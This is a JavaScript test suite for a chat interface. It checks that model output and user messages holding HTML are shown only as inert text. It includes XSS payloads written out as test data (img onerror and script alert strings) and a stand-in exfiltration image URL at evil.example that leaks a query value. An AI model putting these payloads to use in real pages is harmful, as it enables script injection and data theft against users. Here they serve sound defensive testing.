// Model output is hostile input: nothing in it may run, link to a script URL,
// or load a remote resource until the user asks.
import { describe, it, before, after, afterEach } from "node:test";
import assert from "node:assert/strict";
import { useEnv, configure, send, lastReply, waitSettled, shot, partText, assertNoPageErrors } from "./harness.mjs";

import { deflateSync } from "node:zlib";

/** A small solid orange PNG (visible in screenshots once loaded). */
function solidPng(w, h) {
  const crcTable = Array.from({ length: 256 }, (_, n) => {
    let c = n;
    for (let k = 0; k < 8; k++) c = c & 1 ? 0xedb88320 ^ (c >>> 1) : c >>> 1;
    return c >>> 0;
  });
  const crc = (buf) => {
    let c = 0xffffffff;
    for (const b of buf) c = crcTable[(c ^ b) & 0xff] ^ (c >>> 8);
    return (c ^ 0xffffffff) >>> 0;
  };
  const chunk = (type, data) => {
    const len = Buffer.alloc(4);
    len.writeUInt32BE(data.length);
    const td = Buffer.concat([Buffer.from(type), data]);
    const c = Buffer.alloc(4);
    c.writeUInt32BE(crc(td));
    return Buffer.concat([len, td, c]);
  };
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(w, 0);
  ihdr.writeUInt32BE(h, 4);
  ihdr[8] = 8; // bit depth
  ihdr[9] = 2; // RGB
  const row = Buffer.concat([Buffer.from([0]), Buffer.alloc(w * 3, Buffer.from([0xf0, 0x80, 0x20]))]);
  const raw = Buffer.concat(Array.from({ length: h }, () => row));
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    chunk("IHDR", ihdr),
    chunk("IDAT", deflateSync(raw)),
    chunk("IEND", Buffer.alloc(0)),
  ]);
}
const PNG = solidPng(48, 32);

const XSS_THINKING = "Thinking with <b>markup</b> and <img src=x onerror=alert('think')> inside.";

/** A page where any script execution from the payload would set a flag. */
async function hostilePage(env) {
  const page = await env.page();
  await page.addInitScript(() => {
    window.__pwned = false;
    const mark = () => {
      window.__pwned = true;
    };
    window.alert = mark;
    window.confirm = mark;
    window.prompt = mark;
  });
  // Nothing may leave for evil.example; if it does (after a click), answer locally.
  await page.route(/evil\.example/, (route) =>
    route.fulfill({ status: 200, contentType: "image/png", body: PNG }),
  );
  await page.reload();
  await page.getByRole("textbox", { name: "Message" }).waitFor();
  return page;
}

/** Facts about the whole document that must hold after rendering the payload. */
function documentFacts() {
  const answer = document.querySelector('article[data-message-role="assistant"] [data-part="answer"]');
  const onAttrs = [];
  for (const el of document.querySelectorAll("*")) {
    for (const a of el.attributes) if (/^on/i.test(a.name)) onAttrs.push(`${el.tagName}[${a.name}]`);
  }
  const hrefs = [...document.querySelectorAll("a[href]")].map((a) => a.getAttribute("href"));
  const dangerous = answer
    ? [...answer.querySelectorAll("script, iframe, object, embed, img, svg, frame, frameset, base, form, style, link, meta")].map((e) => e.tagName)
    : ["NO ANSWER"];
  return {
    onAttrs,
    hrefs,
    dangerous,
    scriptsInBody: document.body.querySelectorAll("script, iframe").length,
    pwned: window.__pwned,
    answerText: answer?.textContent ?? null,
    answerLinks: answer ? [...answer.querySelectorAll("a")].map((a) => [a.textContent, a.getAttribute("href")]) : [],
  };
}

describe("safety", () => {
  const env = useEnv({ before, after, afterEach });

  it("xss: nothing runs, no script links, no remote image until clicked", async () => {
    const page = await hostilePage(env);
    await configure(page);
    await send(page, "Render this scenario:xss");
    assert.equal(await waitSettled(page), "done");
    await page.waitForTimeout(300);
    const reply = lastReply(page);

    const f = await page.evaluate(documentFacts);
    assert.deepEqual(f.dangerous, [], "no active or embedded elements in the answer");
    assert.deepEqual(f.onAttrs, [], "no on* attributes anywhere");
    for (const h of f.hrefs) assert.match(h, /^(https?:|mailto:)/i, `a[href] ${h}`);
    assert.equal(f.scriptsInBody, 0);
    assert.equal(f.pwned, false, "no payload ran");
    // Only [safe](https://example.com) became a link.
    assert.deepEqual(
      f.answerLinks.filter(([, href]) => href !== null && !/evil\.example/.test(href)),
      // Serialised by the URL standard, as the browser will follow it.
      [["safe", "https://example.com/"]],
    );
    // Raw HTML is shown as text.
    assert.ok(f.answerText.includes("<script>alert('x')</script>"), "raw script tag shown as text");
    assert.ok(f.answerText.includes("Safe:"));
    // The thinking is text alone, exactly.
    assert.equal(await partText(reply, "thinking"), XSS_THINKING);
    // Only text, in the panel's own blocks (src/browser/plain_text.rs).
    assert.equal(await reply.locator('[data-part="thinking"] :not(.text-block), [data-part="thinking"] .text-block *').count(), 0, "thinking has no elements");

    // The remote image waits for a click.
    assert.ok(!page.requests.some((u) => u.includes("evil.example")), "no request to evil.example yet");
    const load = reply.getByRole("button", { name: /^Load image/ });
    assert.equal(await load.count(), 1);
    assert.match(await load.innerText(), /^Load image/);
    await shot(page, "xss-rendered");

    const asked = page.waitForRequest(/evil\.example/, { timeout: 5000 });
    await load.click();
    const req = await asked;
    assert.equal(req.url(), "https://evil.example/leak.png?q=secret");
    const img = reply.locator('[data-part="answer"] img');
    await img.waitFor();
    assert.equal(await img.getAttribute("src"), "https://evil.example/leak.png?q=secret");
    await page.waitForFunction(() => document.querySelector('[data-part="answer"] img')?.complete);
    assert.equal(await img.evaluate((i) => i.naturalWidth), 48, "the image loaded");
    const after = await page.evaluate(documentFacts);
    assert.deepEqual(after.onAttrs, []);
    assert.equal(after.pwned, false);
    await shot(page, "xss-image-loaded");
    assertNoPageErrors(page);
  });

  it("a remote image shows where it comes from before it is loaded (design: show the link)", async () => {
    const page = await hostilePage(env);
    await configure(page);
    await send(page, "Render this scenario:xss");
    assert.equal(await waitSettled(page), "done");
    const holder = lastReply(page).getByRole("button", { name: /^Load image/ });
    // Visible text around the button, its tooltip, or its description names the host.
    const shown = await holder.evaluate((b) => {
      const box = b.closest(".md-image") || b.parentElement;
      return [box.innerText, b.title, b.getAttribute("aria-description") || "", box.title].join(" | ");
    });
    assert.match(shown, /evil\.example/, `the user can see the image's address: ${JSON.stringify(shown)}`);
    assert.ok(!page.requests.some((u) => u.includes("evil.example")));
    assertNoPageErrors(page);
  });

  it("xss after reload: the stored payload is still inert", async () => {
    const page = await hostilePage(env);
    await configure(page);
    await send(page, "Render this scenario:xss");
    assert.equal(await waitSettled(page), "done");
    page.requests.length = 0;
    await page.reload();
    await lastReply(page).waitFor();
    await page.waitForTimeout(300);
    const f = await page.evaluate(documentFacts);
    assert.deepEqual(f.dangerous, []);
    assert.deepEqual(f.onAttrs, []);
    for (const h of f.hrefs) assert.match(h, /^(https?:|mailto:)/i, `a[href] ${h}`);
    assert.equal(f.pwned, false);
    assert.ok(!page.requests.some((u) => u.includes("evil.example")), "no request to evil.example after reload");
    // The conversation title (from the user's text) is text too.
    assert.equal(await page.getByRole("navigation", { name: "Conversations" }).locator("script, img").count(), 0);
    assertNoPageErrors(page);
  });

  it("a user message with HTML is shown as text", async () => {
    const page = await hostilePage(env);
    await configure(page);
    await send(page, "<img src=x onerror=alert(2)> <b>bold?</b> scenario:basic");
    await waitSettled(page);
    const user = page.locator('article[data-message-role="user"]');
    assert.ok((await user.innerText()).includes("<img src=x onerror=alert(2)> <b>bold?</b>"));
    assert.equal(await user.locator("img, b").count(), 0);
    assert.equal(await page.evaluate(() => window.__pwned), false);
    assertNoPageErrors(page);
  });
});
